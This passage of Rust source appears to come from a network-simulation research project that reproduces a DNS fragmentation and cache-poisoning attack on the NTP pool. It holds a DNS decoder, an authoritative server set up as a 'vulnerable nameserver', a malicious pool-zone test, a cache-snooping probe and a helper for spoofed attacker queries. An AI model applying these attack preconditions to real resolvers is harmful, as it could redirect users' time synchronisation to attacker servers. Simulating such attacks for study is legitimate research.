        let hi = self.u16()?;
        let lo = self.u16()?;
        Ok((u32::from(hi) << 16) | u32::from(lo))
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], DnsError> {
        if self.pos + n > self.data.len() {
            return Err(DnsError::Truncated { context: "bytes" });
        }
        let out = &self.data[self.pos..self.pos + n];
        self.pos += n;
        Ok(out)
    }

    fn read_name(&mut self) -> Result<Name, DnsError> {
        let (name, next) = read_name_at(self.data, self.pos)?;
        self.pos = next;
        Ok(name)
    }

    fn read_record(&mut self) -> Result<Record, DnsError> {
        let name = self.read_name()?;
        let rtype = RecordType::from_code(self.u16()?);
        let class_or_size = self.u16()?;
        let ttl = self.u32()?;
        let rdlen = usize::from(self.u16()?);
        let rdata_start = self.pos;
        if rdata_start + rdlen > self.data.len() {
            return Err(DnsError::Truncated { context: "rdata" });
        }
        let data = match rtype {
            RecordType::A => {
                if rdlen != 4 {
                    return Err(DnsError::BadField { field: "A rdlength" });
                }
                let b = self.take(4)?;
                RData::A(Ipv4Addr::new(b[0], b[1], b[2], b[3]))
            }
            RecordType::Ns | RecordType::Cname => {
                let (target, next) = read_name_at(self.data, rdata_start)?;
                if next > rdata_start + rdlen {
                    return Err(DnsError::Truncated { context: "name rdata" });
                }
                self.pos = rdata_start + rdlen;
                if rtype == RecordType::Ns {
                    RData::Ns(target)
                } else {
                    RData::Cname(target)
                }
            }
            RecordType::Soa => {
                let (mname, next) = read_name_at(self.data, rdata_start)?;
                let (_rname, next) = read_name_at(self.data, next)?;
                let mut tail = Decoder { data: self.data, pos: next };
                let serial = tail.u32()?;
                let _refresh = tail.u32()?;
                let _retry = tail.u32()?;
                let _expire = tail.u32()?;
                let minimum = tail.u32()?;
                self.pos = rdata_start + rdlen;
                RData::Soa { mname, serial, minimum }
            }
            RecordType::Txt => {
                let raw = self.take(rdlen)?;
                let mut text = String::new();
                let mut i = 0;
                while i < raw.len() {
                    let n = usize::from(raw[i]);
                    i += 1;
                    if i + n > raw.len() {
                        return Err(DnsError::Truncated { context: "txt" });
                    }
                    text.push_str(&String::from_utf8_lossy(&raw[i..i + n]));
                    i += n;
                }
                RData::Txt(text)
            }
            RecordType::Opt => {
                self.take(rdlen)?;
                RData::Opt { udp_payload_size: class_or_size }
            }
            RecordType::Rrsig => {
                let mut tail = Decoder { data: self.data, pos: rdata_start };
                let type_covered = RecordType::from_code(tail.u16()?);
                let (signer, next) = read_name_at(self.data, tail.pos)?;
                let mut sig_dec = Decoder { data: self.data, pos: next };
                let hi = sig_dec.u32()?;
                let lo = sig_dec.u32()?;
                self.pos = rdata_start + rdlen;
                RData::Rrsig {
                    type_covered,
                    signer,
                    signature: (u64::from(hi) << 32) | u64::from(lo),
                }
            }
            RecordType::Dnskey => {
                let mut tail = Decoder { data: self.data, pos: rdata_start };
                let key_tag = tail.u16()?;
                self.pos = rdata_start + rdlen;
                RData::Dnskey { key_tag }
            }
            RecordType::Unknown(code) => {
                RData::Unknown { rtype: code, data: Bytes::copy_from_slice(self.take(rdlen)?) }
            }
        };
        Ok(Record { name, ttl, data })
    }
}

/// Reads a possibly-compressed name starting at `pos`; returns the name and
/// the position just after it (in the un-followed stream).
fn read_name_at(data: &[u8], mut pos: usize) -> Result<(Name, usize), DnsError> {
    let mut labels: Vec<String> = Vec::new();
    let mut next_after = None;
    let mut hops = 0;
    loop {
        let len = *data.get(pos).ok_or(DnsError::Truncated { context: "name" })?;
        if len & 0xC0 == 0xC0 {
            let lo = *data.get(pos + 1).ok_or(DnsError::Truncated { context: "pointer" })?;
            let target = usize::from(u16::from_be_bytes([len & 0x3F, lo]));
            if next_after.is_none() {
                next_after = Some(pos + 2);
            }
            if target >= pos && hops == 0 {
                return Err(DnsError::BadPointer); // forward pointer
            }
            hops += 1;
            if hops > 32 {
                return Err(DnsError::BadPointer);
            }
            pos = target;
        } else if len == 0 {
            pos += 1;
            break;
        } else {
            let len = usize::from(len);
            if len > 63 {
                return Err(DnsError::BadName { reason: "label length > 63" });
            }
            if pos + 1 + len > data.len() {
                return Err(DnsError::Truncated { context: "label" });
            }
            labels.push(String::from_utf8_lossy(&data[pos + 1..pos + 1 + len]).into_owned());
            pos += 1 + len;
        }
    }
    let name = Name::from_labels(labels)?;
    Ok((name, next_after.unwrap_or(pos)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pool() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    #[test]
    fn query_round_trip() {
        let q = Message::query(0x1234, pool(), RecordType::A, true);
        let wire = q.encode().unwrap();
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back, q);
        assert!(back.header.rd);
        assert!(!back.header.qr);
    }

    #[test]
    fn response_with_all_sections_round_trips() {
        let q = Message::query(7, pool(), RecordType::A, true);
        let mut resp = Message::response_to(&q);
        resp.header.aa = true;
        resp.answers.push(Record::a(pool(), 150, Ipv4Addr::new(192, 0, 2, 10)));
        resp.answers.push(Record::a(pool(), 150, Ipv4Addr::new(192, 0, 2, 11)));
        resp.authorities.push(Record::ns(pool(), 3600, "ns1.pool.ntp.org".parse().unwrap()));
        resp.additionals.push(Record::a(
            "ns1.pool.ntp.org".parse().unwrap(),
            3600,
            Ipv4Addr::new(198, 51, 100, 1),
        ));
        let wire = resp.encode().unwrap();
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back, resp);
        assert_eq!(back.answer_addrs().len(), 2);
    }

    #[test]
    fn compression_shrinks_repeated_names() {
        let q = Message::query(7, pool(), RecordType::A, true);
        let mut resp = Message::response_to(&q);
        for i in 0..4 {
            resp.answers.push(Record::a(pool(), 150, Ipv4Addr::new(192, 0, 2, i)));
        }
        let wire = resp.encode().unwrap();
        // Uncompressed: each answer name costs 14 bytes; compressed: 2.
        // Header 12 + question (14+4) + 4 * (2+2+2+4+2+4) = 94.
        assert_eq!(wire.len(), 94);
        let back = Message::decode(&wire).unwrap();
        assert_eq!(back.answers.len(), 4);
        assert!(back.answers.iter().all(|r| r.name == pool()));
    }

    #[test]
    fn soa_and_txt_round_trip() {
        let mut m = Message::query(1, pool(), RecordType::Soa, false);
        m.header.qr = true;
        m.authorities.push(Record::new(
            pool(),
            300,
            RData::Soa { mname: "ns1.pool.ntp.org".parse().unwrap(), serial: 42, minimum: 60 },
        ));
        m.additionals.push(Record::new(pool(), 60, RData::Txt("hello world".into())));
        let back = Message::decode(&m.encode().unwrap()).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn rrsig_and_dnskey_round_trip() {
        let mut m = Message::query(1, pool(), RecordType::A, false);
        m.header.qr = true;
        m.answers.push(Record::a(pool(), 150, Ipv4Addr::new(1, 2, 3, 4)));
        m.answers.push(Record::new(
            pool(),
            150,
            RData::Rrsig {
                type_covered: RecordType::A,
                signer: pool(),
                signature: 0xDEAD_BEEF_CAFE_F00D,
            },
        ));
        m.additionals.push(Record::new(pool(), 150, RData::Dnskey { key_tag: 257 }));
        let back = Message::decode(&m.encode().unwrap()).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn opt_record_carries_udp_size_in_class() {
        let mut m = Message::query(9, pool(), RecordType::A, true);
        m.additionals.push(Record::new(Name::root(), 0, RData::Opt { udp_payload_size: 4096 }));
        let back = Message::decode(&m.encode().unwrap()).unwrap();
        match back.additionals[0].data {
            RData::Opt { udp_payload_size } => assert_eq!(udp_payload_size, 4096),
            ref other => panic!("expected OPT, got {other:?}"),
        }
    }

    #[test]
    fn pointer_loop_rejected() {
        // Craft: header + a name that points at itself.
        let mut raw = vec![0u8; 12];
        raw[5] = 1; // qdcount = 1
        raw.extend_from_slice(&[0xC0, 12]); // pointer to itself
        raw.extend_from_slice(&[0, 1, 0, 1]);
        assert!(matches!(Message::decode(&raw), Err(DnsError::BadPointer)));
    }

    #[test]
    fn truncated_rdata_rejected() {
        let q = Message::query(7, pool(), RecordType::A, true);
        let mut resp = Message::response_to(&q);
        resp.answers.push(Record::a(pool(), 150, Ipv4Addr::new(1, 2, 3, 4)));
        let wire = resp.encode().unwrap();
        let cut = &wire[..wire.len() - 2];
        assert!(Message::decode(cut).is_err());
    }

    #[test]
    fn unknown_type_passthrough() {
        let mut m = Message::query(3, pool(), RecordType::Unknown(250), false);
        m.header.qr = true;
        m.answers.push(Record::new(
            pool(),
            10,
            RData::Unknown { rtype: 250, data: Bytes::from_static(&[9, 9, 9]) },
        ));
        let back = Message::decode(&m.encode().unwrap()).unwrap();
        assert_eq!(back, m);
    }
}
