//! The authoritative nameserver host.
//!
//! Serves one or more [`Zone`]s over UDP port 53 through the simulated
//! network. Combined with an [`netsim::os::OsProfile`] that honours ICMP
//! fragmentation-needed and uses sequential IPIDs, this is the paper's
//! "vulnerable nameserver": its large responses fragment on demand and the
//! IPIDs of the fragments are predictable.

use std::net::Ipv4Addr;

use netsim::prelude::*;
use rand::seq::index::sample;
use rand::Rng;

use crate::dnssec::make_rrsig;
use crate::message::{Message, Rcode};
use crate::record::{Record, RecordType};
use crate::zone::{AnswerPolicy, Zone};

/// The well-known DNS port.
pub const DNS_PORT: u16 = 53;

/// Counters exposed by an [`AuthServer`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AuthStats {
    /// Queries received.
    pub queries: u64,
    /// Responses sent.
    pub responses: u64,
    /// Queries refused (no matching zone).
    pub refused: u64,
}

/// An authoritative nameserver serving a set of zones.
#[derive(Debug)]
pub struct AuthServer {
    zones: Vec<Zone>,
    include_authority: bool,
    /// Counters.
    pub stats: AuthStats,
}

impl AuthServer {
    /// Creates a server for `zones`. Responses to A queries include the
    /// zone's NS records and glue in the authority/additional sections.
    pub fn new(zones: Vec<Zone>) -> Self {
        AuthServer { zones, include_authority: true, stats: AuthStats::default() }
    }

    /// Disables the authority/additional sections (small responses that
    /// never fragment — a hardened configuration for the ablation study).
    pub fn without_authority_sections(mut self) -> Self {
        self.include_authority = false;
        self
    }

    /// Builds the response for a query, drawing random pool subsets where
    /// the zone's policy asks for it.
    pub fn answer<R: Rng + ?Sized>(&mut self, query: &Message, rng: &mut R) -> Message {
        self.stats.queries += 1;
        let mut resp = Message::response_to(query);
        resp.header.ra = false;
        let Some(q) = query.question().cloned() else {
            resp.header.rcode = Rcode::FormErr;
            return resp;
        };
        let Some(zone_idx) = self
            .zones
            .iter()
            .enumerate()
            .filter(|(_, z)| q.name.is_subdomain_of(&z.origin))
            .max_by_key(|(_, z)| z.origin.label_count())
            .map(|(i, _)| i)
        else {
            self.stats.refused += 1;
            resp.header.rcode = Rcode::Refused;
            return resp;
        };
        resp.header.aa = true;
        // Synthesise rotated/wildcard A answers, or fall back to statics.
        let answers = {
            let zone = &self.zones[zone_idx];
            match (&zone.policy, q.qtype) {
                (AnswerPolicy::Rotate { names, addrs, per_response, ttl }, RecordType::A)
                    if names.contains(&q.name) && !addrs.is_empty() =>
                {
                    let n = (*per_response).min(addrs.len());
                    sample(rng, addrs.len(), n)
                        .into_iter()
                        .map(|i| Record::a(q.name.clone(), *ttl, addrs[i]))
                        .collect::<Vec<_>>()
                }
                (AnswerPolicy::Wildcard { addrs, per_response, ttl }, RecordType::A)
                    if !addrs.is_empty() =>
                {
                    let n = (*per_response).min(addrs.len());
                    addrs[..n].iter().map(|&addr| Record::a(q.name.clone(), *ttl, addr)).collect()
                }
                _ => zone.lookup(&q.name, q.qtype).to_vec(),
            }
        };
        let zone = &self.zones[zone_idx];
        if answers.is_empty() && !zone.name_exists(&q.name) {
            resp.header.rcode = Rcode::NxDomain;
            return resp;
        }
        resp.answers = answers;
        if let Some(key) = zone.key {
            if !resp.answers.is_empty() {
                let sig = make_rrsig(
                    key,
                    &zone.origin,
                    &q.name,
                    q.qtype,
                    resp.answers[0].ttl,
                    &resp.answers,
                );
                resp.answers.push(sig);
            }
        }
        if self.include_authority && q.qtype != RecordType::Ns {
            resp.authorities = zone.ns_records().to_vec();
            resp.additionals = zone.glue_records();
        }
        resp
    }
}

impl Host for AuthServer {
    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if d.dst_port != DNS_PORT {
            return;
        }
        let Ok(query) = Message::decode(&d.payload) else { return };
        if query.header.qr {
            return; // not a query
        }
        let resp = self.answer(&query, ctx.rng());
        if let Ok(wire) = resp.encode() {
            self.stats.responses += 1;
            ctx.send_udp(d.src, DNS_PORT, d.src_port, wire);
        }
    }
}

/// Convenience: the default vulnerable pool nameserver OS profile (honours
/// PMTUD down to 548 bytes, global sequential IPID).
pub fn vulnerable_ns_profile() -> OsProfile {
    OsProfile::nameserver(548)
}

/// Returns the addresses of the nameservers for a zone laid out by
/// [`crate::zone::pool_zone`].
pub fn ns_addrs(zone: &Zone) -> Vec<Ipv4Addr> {
    zone.glue_records().iter().filter_map(Record::as_a).collect()
}

/// Registers one [`AuthServer`] host per glue address of `zone` in `sim`
/// (each nameserver rotates independently, like the real pool NS fleet).
/// Returns the nameserver addresses for use as resolver hints.
///
/// # Panics
///
/// Panics if any glue address is already occupied.
pub fn spawn_zone_nameservers(
    sim: &mut netsim::sim::Simulator,
    zone: &Zone,
    profile: OsProfile,
) -> Vec<Ipv4Addr> {
    let addrs = ns_addrs(zone);
    for &addr in &addrs {
        sim.add_host(addr, profile.clone(), Box::new(AuthServer::new(vec![zone.clone()])))
            .expect("glue address free");
    }
    addrs
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::zone::{malicious_pool_zone, pool_zone, POOL_A_TTL};
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    fn servers(n: u8) -> Vec<Ipv4Addr> {
        (0..n).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect()
    }

    fn query(name: &str) -> Message {
        Message::query(0x42, name.parse().unwrap(), RecordType::A, false)
    }

    fn rng() -> SmallRng {
        SmallRng::seed_from_u64(1234)
    }

    #[test]
    fn pool_answers_rotate_across_queries() {
        let zone = pool_zone(servers(32), 4, Ipv4Addr::new(198, 51, 100, 1));
        let mut srv = AuthServer::new(vec![zone]);
        let mut rng = rng();
        let r1 = srv.answer(&query("pool.ntp.org"), &mut rng);
        #[allow(clippy::disallowed_types)] // test code (simlint R2 exempts tests)
        let mut seen: std::collections::HashSet<Ipv4Addr> = r1.answer_addrs().into_iter().collect();
        assert_eq!(seen.len(), 4);
        for _ in 0..10 {
            seen.extend(srv.answer(&query("pool.ntp.org"), &mut rng).answer_addrs());
        }
        assert!(seen.len() > 16, "random selection must surface new servers: {}", seen.len());
        assert!(r1.answers.iter().all(|r| r.ttl == POOL_A_TTL));
    }

    #[test]
    fn country_zone_names_also_rotate() {
        let zone = pool_zone(servers(8), 4, Ipv4Addr::new(198, 51, 100, 1));
        let mut srv = AuthServer::new(vec![zone]);
        let r = srv.answer(&query("0.pool.ntp.org"), &mut rng());
        assert_eq!(r.answer_addrs().len(), 4);
        assert_eq!(r.header.rcode, Rcode::NoError);
    }

    #[test]
    fn authority_and_glue_attached() {
        let zone = pool_zone(servers(8), 23, Ipv4Addr::new(198, 51, 100, 1));
        let mut srv = AuthServer::new(vec![zone]);
        let r = srv.answer(&query("pool.ntp.org"), &mut rng());
        assert_eq!(r.authorities.len(), 23);
        assert_eq!(r.additionals.len(), 23);
        // The wire size must exceed the 548-byte forced MTU so that the
        // response fragments — the attack's precondition.
        assert!(r.encode().unwrap().len() > 548, "len = {}", r.encode().unwrap().len());
    }

    #[test]
    fn wildcard_zone_answers_any_name_with_many_addrs() {
        let addrs: Vec<Ipv4Addr> =
            (0..89).map(|i| Ipv4Addr::new(6, 6, (i / 250) as u8, (i % 250) as u8)).collect();
        let mut srv = AuthServer::new(vec![malicious_pool_zone(addrs, 89, 86_400 * 2)]);
        let r = srv.answer(&query("pool.ntp.org"), &mut rng());
        assert_eq!(r.answer_addrs().len(), 89);
        assert!(r.answers.iter().all(|rec| rec.ttl == 86_400 * 2));
        // Must fit a single unfragmented 1500-byte response (paper §VI-C).
        assert!(r.encode().unwrap().len() + 28 <= 1500, "len = {}", r.encode().unwrap().len());
    }

    #[test]
    fn unknown_zone_refused() {
        let zone = pool_zone(servers(4), 4, Ipv4Addr::new(198, 51, 100, 1));
        let mut srv = AuthServer::new(vec![zone]);
        let r = srv.answer(&query("example.com"), &mut rng());
        assert_eq!(r.header.rcode, Rcode::Refused);
        assert_eq!(srv.stats.refused, 1);
    }

    #[test]
    fn nxdomain_for_missing_name_in_zone() {
        let zone = pool_zone(servers(4), 4, Ipv4Addr::new(198, 51, 100, 1));
        let mut srv = AuthServer::new(vec![zone]);
        let r = srv.answer(&query("nonexistent.pool.ntp.org"), &mut rng());
        assert_eq!(r.header.rcode, Rcode::NxDomain);
    }

    #[test]
    fn signed_zone_includes_rrsig() {
        use crate::dnssec::ZoneKey;
        let zone = pool_zone(servers(4), 4, Ipv4Addr::new(198, 51, 100, 1)).with_key(ZoneKey(7));
        let mut srv = AuthServer::new(vec![zone]);
        let r = srv.answer(&query("pool.ntp.org"), &mut rng());
        assert!(r.answers.iter().any(|rec| rec.rtype() == RecordType::Rrsig));
    }
}
