//! Client-side DNS helpers: a stub resolver for embedding in other hosts
//! (NTP clients, scanners) and one-shot lookup utilities for tests.

use netsim::fasthash::FastMap;
use std::net::Ipv4Addr;

use bytes::Bytes;
use netsim::prelude::*;
use rand::RngExt;

use crate::auth::DNS_PORT;
use crate::message::{Message, Rcode};
use crate::name::Name;
use crate::record::{Record, RecordType};

/// A parsed DNS reply delivered back through [`StubResolver::handle`].
#[derive(Debug, Clone)]
pub struct DnsReply {
    /// The TXID this reply answered.
    pub txid: u16,
    /// The queried name.
    pub qname: Name,
    /// Response code.
    pub rcode: Rcode,
    /// A-record addresses in the answer.
    pub addrs: Vec<Ipv4Addr>,
    /// TTLs parallel to `addrs`.
    pub ttls: Vec<u32>,
    /// The full message for callers needing more.
    pub message: Message,
}

/// A minimal stub resolver for hosts that perform DNS lookups through the
/// simulated network. The owner forwards incoming datagrams on its query
/// port to [`StubResolver::handle`].
#[derive(Debug)]
pub struct StubResolver {
    resolver: Ipv4Addr,
    port: u16,
    pending: FastMap<u16, Name>,
}

impl StubResolver {
    /// Creates a stub pointing at `resolver`, sourcing queries from local
    /// UDP port `port`.
    pub fn new(resolver: Ipv4Addr, port: u16) -> Self {
        StubResolver { resolver, port, pending: FastMap::default() }
    }

    /// The resolver queried by this stub.
    pub fn resolver(&self) -> Ipv4Addr {
        self.resolver
    }

    /// Repoints the stub at a different resolver.
    pub fn set_resolver(&mut self, resolver: Ipv4Addr) {
        self.resolver = resolver;
    }

    /// The local port replies are expected on.
    pub fn port(&self) -> u16 {
        self.port
    }

    /// Sends an A query with RD=1; returns the TXID.
    pub fn query_a(&mut self, ctx: &mut Ctx<'_>, name: &Name) -> u16 {
        self.query(ctx, name, RecordType::A, true)
    }

    /// Sends a query; returns the TXID.
    pub fn query(&mut self, ctx: &mut Ctx<'_>, name: &Name, qtype: RecordType, rd: bool) -> u16 {
        let txid: u16 = ctx.rng().random();
        let msg = Message::query(txid, name.clone(), qtype, rd);
        if let Ok(wire) = msg.encode() {
            ctx.send_udp(self.resolver, self.port, DNS_PORT, wire);
            self.pending.insert(txid, name.clone());
        }
        txid
    }

    /// Attempts to interpret a datagram as a reply to one of our pending
    /// queries. Returns `None` for unrelated traffic.
    pub fn handle(&mut self, d: &Datagram) -> Option<DnsReply> {
        if d.dst_port != self.port || d.src != self.resolver {
            return None;
        }
        let msg = Message::decode(&d.payload).ok()?;
        if !msg.header.qr {
            return None;
        }
        let qname = self.pending.remove(&msg.header.id)?;
        let (addrs, ttls) = msg
            .answers
            .iter()
            .filter(|r| r.rtype() == RecordType::A)
            .filter_map(|r| r.as_a().map(|a| (a, r.ttl)))
            .unzip();
        Some(DnsReply {
            txid: msg.header.id,
            qname,
            rcode: msg.header.rcode,
            addrs,
            ttls,
            message: msg,
        })
    }

    /// Number of queries still awaiting a reply.
    pub fn outstanding(&self) -> usize {
        self.pending.len()
    }
}

/// A one-shot lookup host used by tests and scanners: sends a single query
/// on start and records the answer.
#[derive(Debug)]
pub struct OneShot {
    stub: StubResolver,
    name: Name,
    rd: bool,
    /// The addresses from the reply (empty until it arrives, or on failure).
    pub addrs: Vec<Ipv4Addr>,
    /// TTLs parallel to `addrs`.
    pub ttls: Vec<u32>,
    /// Set when a reply (of any rcode) arrived.
    pub replied: bool,
    /// The rcode of the reply.
    pub rcode: Option<Rcode>,
    /// Time the query was sent.
    pub sent_at: Option<SimTime>,
    /// Time the reply arrived.
    pub replied_at: Option<SimTime>,
}

impl OneShot {
    /// Creates a host that will query `resolver` for `name` (A, RD=1).
    pub fn new(resolver: Ipv4Addr, name: Name) -> Self {
        OneShot {
            stub: StubResolver::new(resolver, 5353),
            name,
            rd: true,
            addrs: Vec::new(),
            ttls: Vec::new(),
            replied: false,
            rcode: None,
            sent_at: None,
            replied_at: None,
        }
    }

    /// Same, but with RD=0 (the cache-snooping probe).
    pub fn new_snoop(resolver: Ipv4Addr, name: Name) -> Self {
        OneShot { rd: false, ..OneShot::new(resolver, name) }
    }

    /// Adds the host to `sim` at `addr` and returns `addr` for later
    /// [`OneShot::result`] retrieval.
    pub fn spawn(sim: &mut Simulator, addr: Ipv4Addr, resolver: Ipv4Addr, name: Name) -> Ipv4Addr {
        sim.add_host(addr, OsProfile::linux(), Box::new(OneShot::new(resolver, name)))
            .expect("address free");
        addr
    }

    /// The addresses received by the host spawned at `addr`.
    pub fn result(sim: &Simulator, addr: Ipv4Addr) -> Vec<Ipv4Addr> {
        sim.host::<OneShot>(addr).map(|h| h.addrs.clone()).unwrap_or_default()
    }
}

impl Host for OneShot {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.sent_at = Some(ctx.now());
        let name = self.name.clone();
        self.stub.query(ctx, &name, RecordType::A, self.rd);
    }

    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if let Some(reply) = self.stub.handle(d) {
            self.replied = true;
            self.rcode = Some(reply.rcode);
            self.addrs = reply.addrs;
            self.ttls = reply.ttls;
            self.replied_at = Some(ctx.now());
        }
    }
}

/// Adds a host at `preferred`, or the next free consecutive address if it
/// is taken. Returns the address actually used.
fn spawn_at_free(
    sim: &mut Simulator,
    preferred: Ipv4Addr,
    mut make: impl FnMut() -> Box<dyn Host>,
) -> Ipv4Addr {
    let mut addr = preferred;
    loop {
        match sim.add_host(addr, OsProfile::linux(), make()) {
            Ok(_) => return addr,
            Err(_) => addr = Ipv4Addr::from(u32::from(addr).wrapping_add(1)),
        }
    }
}

/// Runs a blocking A lookup through `sim`: spawns a throwaway [`OneShot`]
/// at `client` (or the next free address), advances the simulation up to 10
/// simulated seconds, and returns the addresses (empty on SERVFAIL/timeout).
pub fn lookup_once(
    sim: &mut Simulator,
    client: Ipv4Addr,
    resolver: Ipv4Addr,
    name: &Name,
) -> Vec<Ipv4Addr> {
    let addr = spawn_at_free(sim, client, || Box::new(OneShot::new(resolver, name.clone())));
    sim.run_for(SimDuration::from_secs(10));
    sim.host::<OneShot>(addr).map(|h| h.addrs.clone()).unwrap_or_default()
}

/// Runs a blocking RD=0 snoop probe. Returns `Some((addrs, min_ttl))` if the
/// resolver revealed a cached RRset, `None` otherwise. The probe host is
/// placed at `client` or the next free consecutive address.
pub fn snoop_once(
    sim: &mut Simulator,
    client: Ipv4Addr,
    resolver: Ipv4Addr,
    name: &Name,
) -> Option<(Vec<Ipv4Addr>, u32)> {
    let addr = spawn_at_free(sim, client, || Box::new(OneShot::new_snoop(resolver, name.clone())));
    sim.run_for(SimDuration::from_secs(5));
    let h = sim.host::<OneShot>(addr)?;
    if h.addrs.is_empty() {
        None
    } else {
        Some((h.addrs.clone(), h.ttls.iter().copied().min().unwrap_or(0)))
    }
}

/// Payload helper: encodes an A query ready to be sent raw (used by
/// attacker hosts that spoof their source address).
pub fn raw_a_query(txid: u16, name: &Name, rd: bool) -> Bytes {
    Message::query(txid, name.clone(), RecordType::A, rd).encode().expect("query encodes")
}

/// Extracts (addr, ttl) pairs from any records in `records`.
pub fn a_records(records: &[Record]) -> Vec<(Ipv4Addr, u32)> {
    records.iter().filter_map(|r| r.as_a().map(|a| (a, r.ttl))).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stub_matches_only_its_own_replies() {
        let resolver: Ipv4Addr = "10.0.0.53".parse().unwrap();
        let mut stub = StubResolver::new(resolver, 7777);
        // Forge a reply with an unknown txid: must not match.
        let msg = {
            let mut m =
                Message::query(0xAAAA, "pool.ntp.org".parse().unwrap(), RecordType::A, true);
            m.header.qr = true;
            m
        };
        let d = Datagram {
            src: resolver,
            dst: "10.0.0.1".parse().unwrap(),
            src_port: DNS_PORT,
            dst_port: 7777,
            payload: msg.encode().unwrap(),
        };
        assert!(stub.handle(&d).is_none());
        assert_eq!(stub.outstanding(), 0);
    }

    #[test]
    fn reply_from_wrong_source_ignored() {
        let resolver: Ipv4Addr = "10.0.0.53".parse().unwrap();
        let stub = StubResolver::new(resolver, 7777);
        let mut stub = stub;
        let mut m = Message::query(1, "pool.ntp.org".parse().unwrap(), RecordType::A, true);
        m.header.qr = true;
        let d = Datagram {
            src: "10.9.9.9".parse().unwrap(), // not our resolver
            dst: "10.0.0.1".parse().unwrap(),
            src_port: DNS_PORT,
            dst_port: 7777,
            payload: m.encode().unwrap(),
        };
        assert!(stub.handle(&d).is_none());
    }
}
