//! # bench — benchmark harness helpers and the perf-trajectory smoke
//! runners
//!
//! The criterion targets under `benches/` regenerate every table and
//! figure of the paper; this library crate carries what they share:
//!
//! * [`show`] — banner printing for regenerated artefacts;
//! * [`engine_driver`] — the budget-bounded forwarding-ring
//!   microbenchmark used by the `engine` criterion target and the
//!   `trajectory` smoke binary (events/sec of the raw event loop);
//! * [`json`] — a tiny dependency-free JSON validator, so the CI smoke
//!   runners can fail the build on malformed `BENCH_*.json` output
//!   without shelling out to `jq`.

#![warn(missing_docs)]

/// Prints a regenerated artefact with a banner, once per bench run.
pub fn show(title: &str, body: &str) {
    println!("\n──── regenerated: {title} ────\n{body}");
}

pub mod engine_driver {
    //! The engine microbenchmark: a ring of hosts forwarding one datagram
    //! forever, terminated by the simulator's event budget. Measures raw
    //! event-loop throughput (slab dispatch, timing wheel, pooled
    //! buffers) with no scenario logic on top.

    use std::net::Ipv4Addr;

    use timeshift::prelude::*;

    /// Events dispatched per drive (the event budget).
    pub const EVENTS_PER_ITER: u64 = 100_000;
    /// Hosts in the forwarding ring.
    pub const RING_HOSTS: u32 = 64;

    /// Forwards every datagram to the next host in the ring, forever. The
    /// event budget is what terminates the run.
    pub struct RingForwarder {
        /// Next hop in the ring.
        pub next: Ipv4Addr,
    }

    impl Host for RingForwarder {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.send_udp(self.next, 4000, 4000, bytes::Bytes::from_static(b"lap"));
        }
        fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
            ctx.send_udp(self.next, d.dst_port, d.src_port, d.payload.clone());
        }
    }

    /// Builds the budget-bounded ring simulation.
    pub fn ring_sim(seed: u64) -> Simulator {
        let mut sim = Simulator::with_topology(
            seed,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(5))),
        );
        let addr = |i: u32| Ipv4Addr::from(0x0A00_0000 + 1 + i);
        for i in 0..RING_HOSTS {
            let next = addr((i + 1) % RING_HOSTS);
            sim.add_host(addr(i), OsProfile::linux(), Box::new(RingForwarder { next }))
                .expect("ring address free");
        }
        sim.set_event_budget(EVENTS_PER_ITER);
        sim
    }

    /// One full iteration: dispatch exactly [`EVENTS_PER_ITER`] events.
    pub fn drive(seed: u64) -> SimStats {
        let mut sim = ring_sim(seed);
        // The budget (not the deadline) terminates the run.
        sim.run_for(SimDuration::from_secs(86_400));
        sim.stats()
    }

    /// Best-of-three timed drives of the same seed: identical stats every
    /// time, minimum elapsed seconds — the recorded number reflects the
    /// engine, not scheduler noise or seed luck.
    // Wall-clock reads are the point here: crates/bench is the simlint
    // R3 allowlist (clippy mirrors the rule workspace-wide).
    #[allow(clippy::disallowed_methods)]
    pub fn measure() -> (SimStats, f64) {
        let one = || {
            let start = std::time::Instant::now();
            let stats = drive(1);
            (stats, start.elapsed().as_secs_f64())
        };
        let (mut stats, mut elapsed) = one();
        for _ in 0..2 {
            let (s, e) = one();
            if e < elapsed {
                (stats, elapsed) = (s, e);
            }
        }
        (stats, elapsed)
    }
}

pub mod json {
    //! A tiny JSON validator (no parsing into values, no dependencies):
    //! just enough to let the smoke runners verify the `BENCH_*.json`
    //! files they emit are well-formed before CI uploads them.

    /// Validates that `input` is one well-formed JSON value (objects,
    /// arrays, strings with escapes, numbers, booleans, null) with
    /// nothing but whitespace after it.
    ///
    /// # Errors
    ///
    /// Returns a human-readable description of the first syntax error,
    /// with its byte offset.
    pub fn validate(input: &str) -> Result<(), String> {
        let bytes = input.as_bytes();
        let mut pos = 0usize;
        skip_ws(bytes, &mut pos);
        value(bytes, &mut pos)?;
        skip_ws(bytes, &mut pos);
        if pos != bytes.len() {
            return Err(format!("trailing data at byte {pos}"));
        }
        Ok(())
    }

    fn skip_ws(b: &[u8], pos: &mut usize) {
        while *pos < b.len() && matches!(b[*pos], b' ' | b'\t' | b'\n' | b'\r') {
            *pos += 1;
        }
    }

    fn expect(b: &[u8], pos: &mut usize, c: u8) -> Result<(), String> {
        if *pos < b.len() && b[*pos] == c {
            *pos += 1;
            Ok(())
        } else {
            Err(format!("expected '{}' at byte {}", c as char, pos))
        }
    }

    fn value(b: &[u8], pos: &mut usize) -> Result<(), String> {
        skip_ws(b, pos);
        match b.get(*pos) {
            Some(b'{') => object(b, pos),
            Some(b'[') => array(b, pos),
            Some(b'"') => string(b, pos),
            Some(b't') => literal(b, pos, "true"),
            Some(b'f') => literal(b, pos, "false"),
